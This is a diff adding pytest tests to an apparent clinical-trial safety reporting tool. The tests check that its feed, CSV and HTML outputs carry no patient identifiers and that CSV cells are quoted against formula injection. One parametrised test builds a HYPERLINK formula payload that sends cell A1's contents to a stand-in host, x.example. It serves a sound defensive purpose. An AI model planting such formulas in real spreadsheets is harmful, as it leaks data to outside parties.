@@ -146,3 +146,63 @@ def test_template_names_a_missing_value() -> None:
 def test_template_reports_an_unclosed_loop() -> None:
     with pytest.raises(TemplateError, match="not closed"):
         render("{% for r in rows %}", {"rows": []})
+
+
+# ----------------------------------------------------------------------------------------------------
+# No identifiers (README) and CSV injection (OWASP)
+# ----------------------------------------------------------------------------------------------------
+
+
+def _phi_report():  # type: ignore[no-untyped-def]
+    import phi_fixtures as phi
+
+    from safety.ruleset import load_ruleset
+
+    rules = load_ruleset()
+    return build_report(
+        phi.events(), phi.alerts(rules), study_id=phi.STUDY, generated_at=fx.GENERATED_AT, tz=rules.tz
+    )
+
+
+def test_feed_csv_and_html_summary_carry_no_identifier_of_the_events() -> None:
+    import phi_fixtures as phi
+
+    report = _phi_report()
+    for text in (atom_feed(report, base_url="http://127.0.0.1:6066/"), summary_csv(report), summary_html(report)):
+        assert phi.found(text) == []
+
+
+def test_death_and_uncoded_entries_have_a_term_and_a_grade_in_the_feed() -> None:
+    doc = ET.fromstring(atom_feed(_phi_report()).encode())
+    titles = sorted(e.findtext(f"{A}title") or "" for e in doc.findall(f"{A}entry"))
+    assert [t for t in titles if "D17" in t] == [
+        "DLT AA-901 D17 Death NOS G5",
+        "SAE AA-901 D17 Death NOS G5",
+        "SUSAR AA-901 D17 Death NOS G5",
+    ]
+    assert "SAE AA-901 D2 uncoded term G3" in titles
+    contents = [e.findtext(f"{A}content") or "" for e in doc.findall(f"{A}entry")]
+    assert any("术语 / Term: Death NOS\n分级 / Grade: 5" in c for c in contents)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_csv_cell_can_start_a_formula(start: str) -> None:
+    payload = f"{start}HYPERLINK(\"http://x.example/?\"&A1,\"open\")"
+    alerts = fx.alerts()
+    for alert in alerts:
+        if alert["kind"] in ("SAE", "SUSAR"):
+            alert["ctcae_term"] = payload
+    rows = list(csv.reader(io.StringIO(summary_csv(_report(alerts=alerts)))))
+    terms = [dict(zip(rows[0], row, strict=True))["term"] for row in rows[1:]]
+    assert terms and terms == ["'" + payload] * len(terms)
+
+
+def test_every_csv_cell_is_quoted_and_numbers_stay_numbers() -> None:
+    alerts = fx.alerts()
+    first = next(a for a in alerts if a["kind"] == "SAE")
+    first["study_day"] = -3  # a screening SAE: a negative number is data, not a formula
+    text = summary_csv(_report(alerts=alerts))
+    lines = text.split("\r\n")[:-1]
+    assert all(line.startswith('"') and line.endswith('"') for line in lines)
+    days = [dict(zip(LISTING_COLUMNS, row, strict=True))["study_day"] for row in csv.reader(io.StringIO(text))]
+    assert "-3" in days
